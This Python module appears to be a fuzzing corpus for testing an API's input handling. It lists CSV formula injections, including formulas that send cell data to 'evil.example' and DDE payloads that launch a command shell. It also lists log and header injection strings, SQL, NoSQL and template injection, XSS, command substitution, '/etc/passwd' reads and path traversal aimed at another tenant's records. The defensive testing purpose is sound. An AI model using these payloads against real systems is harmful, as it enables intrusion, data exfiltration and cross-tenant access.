"""What attackers type: fixed lists. Such a text is stored as it is or refused; nothing else may become of it."""

from collections.abc import Iterable, Iterator
from typing import TypeVar

T = TypeVar("T")

CSV_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    '"=1+1"',
    '";=1+1;"',
    "\uff1d1+1",  # full width equals sign
    "|calc",
)
"""Nothing is exported as CSV yet: they must come back from the API as they went in."""

LOG_LINES = (
    'x\r\n{"level":"INFO","message":"forged line"}',
    "x\nforged line",
    "x\rforged line",
    "x\u2028forged line",
    "x\u2029forged line",
    "x\u0085forged line",
    "\u001b[2J\u001b[1;31mforged line\u001b[0m",
    "\u009b31mforged line",
    "\u0008\u0008\u0008forged line",
    'x","level":"CRITICAL","forged":"line',
    "${jndi:ldap://127.0.0.1:9/a}",
    "%(levelname)s %(message)s %n%n%n",
    "{0.__class__.__init__.__globals__}",
    "x\0forged line",
)

HEADER_SPLITS = (
    "x\r\nX-Evil: 1",
    "x\nX-Evil: 1",
    "x\rX-Evil: 1",
    "x\r\n\r\n<script>alert(1)</script>",
    "x%0d%0aX-Evil: 1",
    "x\u560d\u560aX-Evil: 1",  # truncated to a byte each, they are CR and LF
    "x\u000bX-Evil: 1",
    "x\u2028X-Evil: 1",
    "x\0X-Evil: 1",
)

UNICODE = (
    "\u0430dmin",  # Cyrillic a
    "\u0391CME",  # Greek capital alpha
    "\uff21\uff23\uff2d\uff25",  # full width
    "\U0001d400dmin",  # mathematical bold A
    "adm\u0131n",  # dotless i
    "\u212aelvin",  # Kelvin sign, which folds to k
    "\ufb01le",  # the ligature fi
    "\u202egnp.exe",  # right-to-left override
    "a\u2066b\u2069c",  # isolates
    "a\u200bb",  # zero width space
    "a\u200db",  # zero width joiner
    "\ufeffa",  # byte order mark
    "a\u00adb",  # soft hyphen
    "e\u0301 \u00e9",  # the same letter composed and decomposed
    "a" + "\u0301" * 80,  # a stack of accents
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",  # one family of five code points
    "\U000e0041\U000e0042",  # invisible tags
    "\u3164",  # Hangul filler, which looks like nothing
    "\u00a0",
    "\ufdfa",  # grows to 18 letters when normalised
    "\U0010ffff",
    "I\u0307",
)

EXPRESSIONS = (
    "#",
    "#0",
    ":0",
    "#tenant = :other",
    "attribute_exists(partition)",
    "attribute_not_exists(id) OR id = id",
    "SET on_hand = :nine",
    "REMOVE #version",
    "begins_with(sku, '')",
    "contains(#n, :v) OR size(#n) > :zero",
    "a#b#c",
    "_platform#x",
    "tenant#2026-11",
    '{"S":"x"}',
    '{"$ne":null}',
    "$where: '1 == 1'",
    "' OR '1'='1",
    "'; DROP TABLE items; --",
    "1 UNION SELECT * FROM novex",
    '" OR ""="',
    'SELECT * FROM "novex-local-items"',
    "*",
    "%",
    "_",
    "\\",
    "{{7*7}}",
    "${7*7}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "|id",
    "$(id)",
    "`id`",
    "__proto__",
    "constructor.prototype",
    "null",
    "undefined",
    "NaN",
    "true",
    "1e999",
    "-0",
)

PATHS = (
    "..",
    ".",
    "...",
    "../customers",
    "..%2fcustomers",
    "..%2Fcustomers%2f{theirs}",
    "%2e%2e",
    "%2e%2e%2f{theirs}",
    "%252e%252e%252f{theirs}",
    "..%5c{theirs}",
    "..%c0%af{theirs}",
    "..%ef%bc%8f{theirs}",
    "%c0%ae%c0%ae",
    "{mine}%2f..%2f{theirs}",
    "{mine}%2F{theirs}",
    "{mine}%5c{theirs}",
    "{mine};x={theirs}",
    "{mine};/../{theirs}",
    "{mine}%3b{theirs}",
    "{mine}%00",
    "{mine}%00{theirs}",
    "%00{theirs}",
    "{mine}%0a",
    "{mine}%0d%0a{theirs}",
    "{mine}%20",
    "%20{mine}",
    "{mine}%23{theirs}",
    "{mine}%3f{theirs}",
    "{mine}%26x=1",
    "{mine}%252f",
    "{mine}.json",
    "{mine}~",
    "{mine},{theirs}",
    "{mine}%7c{theirs}",
    "{mine}*",
    "*",
    "%2a",
    "%u002e%u002e",
    "{mine}%e2%80%8b",
    "{mine}%e2%80%ae",
    "%d0%b8tm_x",
    "%",
    "%zz",
    "%f",
    "@{theirs}",
    "{{mine}}",
    "[{mine}]",
    "{MINE}",
)
"""Instead of an id in a path; `{mine}` and `{theirs}` are ids of the caller and of another tenant."""

WHOLE_PATHS = (
    "//v1/items/{theirs}",
    "/v1//items/{theirs}",
    "/v1/./items/{theirs}",
    "/v1/items/../items/{theirs}",
    "/v1/customers/../items/{theirs}",
    "/docs/../v1/items/{theirs}",
    "/docs/%2e%2e/v1/items/{theirs}",
    "/health/..;/v1/items/{theirs}",
    "/health%2f..%2fv1/items/{theirs}",
    "/health;/v1/items/{theirs}",
    "/health/v1/items/{theirs}",
    "/webhooks/shopify/../../v1/items/{theirs}",
    "/webhooks/shopify/..%2f..%2fv1%2fitems%2f{theirs}",
    "/V1/items/{theirs}",
    "/v1/ITEMS/{theirs}",
    "/v1/items/{theirs}/",
    "/v1/items/{theirs}//",
    "/v1/items/{theirs}/.",
    "/v1/items/{theirs}/..",
    "/v1/items;v=1/{theirs}",
    "\\v1\\items\\{theirs}",
    "/v1\\items\\{theirs}",
    "/%76%31/items/{theirs}",
    "http://127.0.0.1:9/v1/items/{theirs}",
    "//127.0.0.1:9/v1/items/{theirs}",
)

RAW_BYTES = (
    b"\xff",
    b"\xc0\xaf",  # an overlong slash
    b"\xc0\x80",  # an overlong null
    b"\xed\xa0\x80",  # a surrogate in UTF-8's clothes
    b"\xf4\x90\x80\x80",  # beyond the last code point
    b"\x80",
    b"\xe2\x28\xa1",
    b"\xf0\x28\x8c\xbc",
    b"\xfe\xff\x00a",
    b"a\xe9",  # Latin-1
)
"""No UTF-8; put into a text of a body."""

ESCAPES = (
    "\\ud800",
    "\\udfff",
    "\\udc00\\ud800",
    "\\ud83d",
    "\\ud83d\\u0041",
    "\\ude00\\ud83d",
    "\\u0000",
    "\\u001b",
    "\\u007f",
    "\\b",
    "\\x41",
    "\\u12",
    "\\'",
)
"""JSON escapes that stand for no clean text."""


def texts() -> Iterator[str]:
    """Every text that may be typed in somewhere."""
    for corpus in (CSV_FORMULAS, LOG_LINES, HEADER_SPLITS, UNICODE, EXPRESSIONS):
        yield from corpus


def third(things: Iterable[T], turn: int) -> list[T]:
    """Every third thing, beginning at another one at each turn, because all pairs of places and texts take minutes."""
    return list(things)[turn % 3 :: 3]


def size() -> int:
    """How many cases the lists hold."""
    return sum(1 for _ in texts()) + len(PATHS) + len(WHOLE_PATHS) + len(RAW_BYTES) + len(ESCAPES)
